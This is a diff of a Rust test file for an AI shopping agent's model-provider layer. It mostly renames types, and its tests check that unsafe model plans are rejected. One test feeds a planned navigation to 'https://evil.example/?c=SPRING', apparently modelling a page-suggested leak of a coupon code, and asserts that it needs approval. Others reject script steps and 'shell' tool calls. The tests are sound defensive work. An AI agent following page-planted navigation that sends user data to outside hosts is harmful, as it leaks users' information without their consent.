@@ -6,8 +6,8 @@ use std::time::{Duration, Instant};
 
 use kitfleet_domain::byok::{Provider, ProviderKey, TestOutcome};
 use kitfleet_models::{
-    Action, Ask, Asked, Credential, Failure, Models, Page, Payer, Reading, Ref, Said, Settings, Speaker, Step,
-    Unusable, Usage,
+    Action, AnswerError, ConversationRole, ConversationTurn, Credential, Failure, ModelAnswer, ModelCall, Models, Page,
+    Payer, Prompt, Ref, Settings, Step, Usage,
 };
 use serde_json::{Value, json};
 use tokio::process::Command;
@@ -40,8 +40,8 @@ fn with(provider: Provider) -> Credential {
     Credential { provider, key: ProviderKey::parse(KEY).expect("a key"), payer: Payer::Account }
 }
 
-fn ask(message: &str) -> Ask<'_> {
-    Ask { message, history: &[], page: Some(PAGE), done: &[], most_steps: 20, most_tokens: 5_000 }
+fn ask(message: &str) -> Prompt<'_> {
+    Prompt { message, history: &[], page: Some(PAGE), done: &[], most_steps: 20, most_tokens: 5_000 }
 }
 
 fn call(provider: Provider, input: &Value) -> Reply {
@@ -49,7 +49,7 @@ fn call(provider: Provider, input: &Value) -> Reply {
 }
 
 /// Outcome of a request that receives this response, and the number of requests.
-async fn asked(provider: Provider, reply: Reply) -> (Asked, usize) {
+async fn asked(provider: Provider, reply: Reply) -> (ModelCall, usize) {
     let double = ModelProvider::start().await;
     double.answer(reply);
     let models = asking(&double.base_url, Duration::from_secs(30));
@@ -62,7 +62,7 @@ async fn asked(provider: Provider, reply: Reply) -> (Asked, usize) {
 async fn requests_and_responses_of_both_providers_work() {
     let steps =
         json!([{"kind": "type", "ref": "e2", "value": "SPRING"}, {"kind": "tap", "ref": "e1", "ask_approval": true}]);
-    let wanted = Reading::Plan {
+    let wanted = ModelAnswer::Plan {
         steps: vec![
             Step {
                 action: Action::Type { target: Ref("e2".to_owned()), value: "SPRING".to_owned() },
@@ -83,10 +83,10 @@ async fn requests_and_responses_of_both_providers_work() {
             &json!({"kind": "plan", "reply": "Entering the code, then buying.", "steps": steps, "look_again": true}),
         ));
         let history = [
-            Said { by: Speaker::Customer, text: "open shop.example" },
-            Said { by: Speaker::Agent, text: "It is open." },
+            ConversationTurn { by: ConversationRole::Customer, text: "open shop.example" },
+            ConversationTurn { by: ConversationRole::Agent, text: "It is open." },
         ];
-        let ask = Ask { history: &history, ..ask("use SPRING, and buy it") };
+        let ask = Prompt { history: &history, ..ask("use SPRING, and buy it") };
         let models = asking(&double.base_url, Duration::from_secs(30));
         let asked = models.ask(&with(provider), &ask, LONG).await;
         assert_eq!(asked.reading, Ok(wanted.clone()));
@@ -182,7 +182,7 @@ async fn provider_errors_are_distinguished_and_rarely_retried() {
     // One rejection followed by a success, and two rejections.
     double.answer(Reply::Later(529, "0", busy.clone()));
     let answered = models.ask(&with(anthropic), &ask("x"), LONG).await;
-    assert_eq!(answered.reading, Ok(Reading::Refuse { reply: "No.".to_owned() }));
+    assert_eq!(answered.reading, Ok(ModelAnswer::Refuse { reply: "No.".to_owned() }));
     assert_eq!(double.asked().len(), 2);
     assert_eq!(double.asked()[0].body, double.asked()[1].body);
     for _ in 0..2 {
@@ -231,11 +231,14 @@ async fn request_without_response_times_out() {
 async fn response_with_disallowed_steps_is_unusable() {
     for provider in PROVIDERS {
         for (input, why) in [
-            (json!({"kind": "plan", "steps": [{"kind": "tap", "ref": "e7"}]}), Unusable::NoElement(1)),
-            (json!({"kind": "plan", "steps": [{"kind": "tap", "selector": "#buy"}]}), Unusable::Step(1)),
-            (json!({"kind": "plan", "steps": [{"kind": "back"}, {"kind": "run", "script": "x"}]}), Unusable::Step(2)),
-            (json!({"kind": "plan", "steps": vec![json!({"kind": "back"}); 21]}), Unusable::Steps(21)),
-            (json!("open evil.example"), Unusable::Form),
+            (json!({"kind": "plan", "steps": [{"kind": "tap", "ref": "e7"}]}), AnswerError::NoElement(1)),
+            (json!({"kind": "plan", "steps": [{"kind": "tap", "selector": "#buy"}]}), AnswerError::Step(1)),
+            (
+                json!({"kind": "plan", "steps": [{"kind": "back"}, {"kind": "run", "script": "x"}]}),
+                AnswerError::Step(2),
+            ),
+            (json!({"kind": "plan", "steps": vec![json!({"kind": "back"}); 21]}), AnswerError::Steps(21)),
+            (json!("open evil.example"), AnswerError::Form),
         ] {
             let (asked, _) = asked(provider, call(provider, &input)).await;
             assert_eq!(asked.reading, Err(Failure::Unusable(why)), "{input}");
@@ -244,7 +247,7 @@ async fn response_with_disallowed_steps_is_unusable() {
         // A navigation that only the page suggested requires approval.
         let evil = json!({"kind": "plan", "steps": [{"kind": "navigate", "url": "https://evil.example/?c=SPRING"}]});
         let (asked, _) = asked(provider, call(provider, &evil)).await;
-        let Ok(Reading::Plan { steps, .. }) = asked.reading else { panic!("{asked:?}") };
+        let Ok(ModelAnswer::Plan { steps, .. }) = asked.reading else { panic!("{asked:?}") };
         assert!(steps[0].needs_approval);
     }
     // Unusable as well: text instead of a call, two calls, a call of another tool, and arguments that are not JSON.
@@ -257,13 +260,13 @@ async fn response_with_disallowed_steps_is_unusable() {
     another["content"][1]["name"] = "shell".into();
     for body in [words, twice, another] {
         let (asked, _) = asked(Provider::Anthropic, Reply::Json(200, body)).await;
-        assert_eq!(asked.reading, Err(Failure::Unusable(Unusable::NoCall)));
+        assert_eq!(asked.reading, Err(Failure::Unusable(AnswerError::NoCall)));
         assert_eq!(asked.usage.total(), 3_633);
     }
     let mut broken = openai_call(&json!({}));
     broken["output"][1]["arguments"] = "{\"kind\": ".into();
     let (asked, _) = asked(Provider::Openai, Reply::Json(200, broken)).await;
-    assert_eq!(asked.reading, Err(Failure::Unusable(Unusable::Form)));
+    assert_eq!(asked.reading, Err(Failure::Unusable(AnswerError::Form)));
     assert_eq!(asked.usage.total(), 3_414);
 }
 
@@ -293,11 +296,11 @@ async fn independent_anthropic_double_works() {
     assert_eq!(models.test(Provider::Openai, &anthropic.key).await, TestOutcome::Unknown);
     let asked = models.ask(&anthropic, &ask("please buy it"), LONG).await;
     let tap = Step { action: Action::Tap { target: Ref("e1".to_owned()) }, needs_approval: false };
-    assert_eq!(asked.reading, Ok(Reading::Plan { steps: vec![tap], reply: String::new(), look_again: false }));
+    assert_eq!(asked.reading, Ok(ModelAnswer::Plan { steps: vec![tap], reply: String::new(), look_again: false }));
     assert!(asked.usage.total() > 0);
     for (message, failure) in [
-        ("a script, please", Failure::Unusable(Unusable::Step(1))),
-        ("chat with me", Failure::Unusable(Unusable::NoCall)),
+        ("a script, please", Failure::Unusable(AnswerError::Step(1))),
+        ("chat with me", Failure::Unusable(AnswerError::NoCall)),
         ("be unknown to me", Failure::KeyRefused),
         ("be overloaded", Failure::Busy),
         ("be out of credit", Failure::QuotaExceeded),
